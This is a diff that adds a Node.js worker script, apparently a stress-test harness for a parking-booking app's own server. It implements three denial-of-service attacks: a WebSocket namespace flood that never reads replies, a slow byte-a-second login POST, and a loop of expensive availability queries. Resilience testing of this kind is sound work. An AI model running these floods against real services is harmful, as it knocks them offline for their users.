@@ -1,0 +1,95 @@
+// One attacker, in a thread of its own, from an address of its own, until the thread is ended.
+import { Agent, request } from 'node:http';
+import { connect } from 'node:net';
+import { workerData } from 'node:worker_threads';
+
+const { attack, url, connections, token } = workerData;
+const { hostname, port } = new URL(url);
+const localAddress = '127.0.0.66';
+const AT_ONCE = 50;
+const DAY_MS = 24 * 3_600_000;
+
+/** Opens a connection again whenever it ends, a moment later. */
+function again(open) {
+  const socket = connect({ host: hostname, port: Number(port), localAddress });
+  socket.on('error', () => undefined);
+  socket.on('close', () => setTimeout(() => again(open), 50));
+  socket.on('connect', () => open(socket));
+}
+
+/** A frame of a WebSocket as a client sends it, masked with zeros. */
+function frame(text) {
+  const length = Buffer.byteLength(text);
+  const head =
+    length < 126 ? [0x81, 0x80 | length] : [0x81, 0x80 | 126, length >> 8, length & 0xff];
+  return Buffer.concat([Buffer.from([...head, 0, 0, 0, 0]), Buffer.from(text)]);
+}
+
+const UPGRADE = [
+  'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1',
+  `host: ${hostname}:${port}`,
+  'connection: upgrade',
+  'upgrade: websocket',
+  'sec-websocket-version: 13',
+  'sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==',
+  '',
+  '',
+].join('\r\n');
+
+/** Asks for unknown namespaces as fast as the connection takes it, and never reads an answer. */
+function neverRead(greeting) {
+  again((socket) => {
+    const flood = Buffer.concat(Array.from({ length: 500 }, (_, n) => frame(`40/nada${n},`)));
+    socket.pause();
+    socket.write(UPGRADE);
+    if (greeting) socket.write(frame(greeting));
+    const pour = () => {
+      while (!socket.destroyed && socket.write(flood));
+    };
+    socket.on('drain', pour);
+    setTimeout(pour, 200);
+  });
+}
+
+/** The headers of a login, and then a byte a second. */
+function slowPost(socket) {
+  socket.write(
+    `POST /api/session/login HTTP/1.1\r\nhost: ${hostname}:${port}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{`,
+  );
+  const timer = setInterval(() => socket.write(' '), 1000);
+  socket.on('close', () => clearInterval(timer));
+}
+
+/** The answer with the most lots, for the longest stay, sorted, and read to its end. */
+async function dearCalls(agent) {
+  const from = new Date(Date.now() + DAY_MS);
+  const query = new URLSearchParams({
+    near: '14.6,-90.5',
+    start_time: from.toISOString(),
+    end_time: new Date(from.getTime() + 30 * DAY_MS).toISOString(),
+    search: 'a e q u v 0',
+  });
+  const words = new URLSearchParams(query);
+  query.delete('search');
+  for (let n = 0; ; n += 1) {
+    await new Promise((done) => {
+      const sent = request(
+        `${url}/api/parking/available?${n % 2 ? query : words}`,
+        { agent, localAddress, headers: { authorization: token } },
+        (answer) => answer.resume().on('close', done),
+      );
+      sent.on('error', done);
+      sent.end();
+    });
+  }
+}
+
+if (attack === 'sockets') {
+  for (let n = 0; n < 20; n += 1) neverRead(`40${JSON.stringify({ token })}`);
+  for (let n = 0; n < 100; n += 1) neverRead(null);
+} else if (attack === 'slow') {
+  for (let n = 0; n < connections; n += 1) again(slowPost);
+} else {
+  const agent = new Agent({ keepAlive: true });
+  for (let n = 0; n < AT_ONCE; n += 1) void dearCalls(agent);
+}
